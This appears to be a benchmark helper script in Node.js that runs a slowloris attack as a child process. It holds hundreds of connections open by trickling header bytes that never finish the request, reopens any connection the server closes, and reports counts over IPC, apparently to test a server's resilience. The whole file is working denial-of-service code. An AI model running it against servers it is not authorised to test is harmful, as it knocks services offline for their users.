// Runs as its own process on the client core (started by lib/slowloris.mjs with IPC):
//   node bench/lib/slowloris-client.mjs <url> <connections> <trickleMs>
// Holds <connections> connections that each send the start of a GET and then one more
// header byte every <trickleMs>, never the blank line that ends the headers: a slowloris.
// A connection the server closes is opened again (after 250 ms), as an attacker would.
// IPC: sends { type: 'ready', ... } once every first connection has been tried, then
// { type: 'status', open } each second; answers { type: 'report' } with the tallies.
import net from 'node:net';

const [urlArg, connectionsArg = '500', trickleArg = '1000'] = process.argv.slice(2);
const url = new URL(urlArg);
const connections = Number(connectionsArg);
const trickleMs = Number(trickleArg);
const RECONNECT_MS = 250;
// One header line trickled byte by byte, over and over: the headers never end.
const TRICKLE = 'X-Trickle: 1\r\n';

const tally = {
  opened: 0,
  connectErrors: {},
  closedByServer: 0,
  lifetimesMs: [],
  answers: {},
  bytesSent: 0,
  minOpen: Infinity,
  maxOpen: 0,
};
let open = 0;
let stopping = false;

function count(map, key) {
  map[key] = (map[key] ?? 0) + 1;
}

function connect(onSettled) {
  const socket = net.connect({ host: url.hostname, port: Number(url.port) });
  let opened = 0;
  let timer;
  let cursor = 0;
  let settled = false;
  const settle = () => {
    if (!settled) {
      settled = true;
      onSettled?.();
    }
  };
  socket.setNoDelay(true);
  socket.on('connect', () => {
    opened = performance.now();
    open++;
    tally.opened++;
    tally.maxOpen = Math.max(tally.maxOpen, open);
    const head = `GET ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: Bearer bench-key\r\n`;
    socket.write(head);
    tally.bytesSent += head.length;
    // spread the trickles of all connections over the interval
    setTimeout(() => {
      timer = setInterval(() => {
        socket.write(TRICKLE[cursor]);
        cursor = (cursor + 1) % TRICKLE.length;
        tally.bytesSent++;
      }, trickleMs);
    }, Math.random() * trickleMs);
    settle();
  });
  // Only the status line of what the server sends is kept (a 408 or 400 says why it gave up).
  socket.once('data', (chunk) => count(tally.answers, /^HTTP\/1\.[01] (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 'other bytes'));
  socket.on('error', (error) => {
    if (!opened) count(tally.connectErrors, error.code ?? error.message);
  });
  socket.on('close', () => {
    clearInterval(timer);
    settle();
    if (opened) {
      open--;
      tally.minOpen = Math.min(tally.minOpen, open);
      if (!stopping) {
        tally.closedByServer++;
        tally.lifetimesMs.push(performance.now() - opened);
      }
    }
    if (!stopping) setTimeout(() => connect(), RECONNECT_MS);
  });
}

let settledCount = 0;
for (let i = 0; i < connections; i++) {
  connect(() => {
    settledCount++;
    if (settledCount === connections) {
      tally.minOpen = open;
      process.send({ type: 'ready', open, connectErrors: tally.connectErrors });
    }
  });
}

setInterval(() => process.send({ type: 'status', open }), 1000).unref();

process.on('message', (message) => {
  if (message?.type !== 'report') return;
  process.send({ type: 'report', open, ...tally, minOpen: Number.isFinite(tally.minOpen) ? tally.minOpen : open });
});
process.on('disconnect', () => {
  stopping = true;
  process.exit(0);
});
process.on('SIGTERM', () => {
  stopping = true;
  process.exit(0);
});
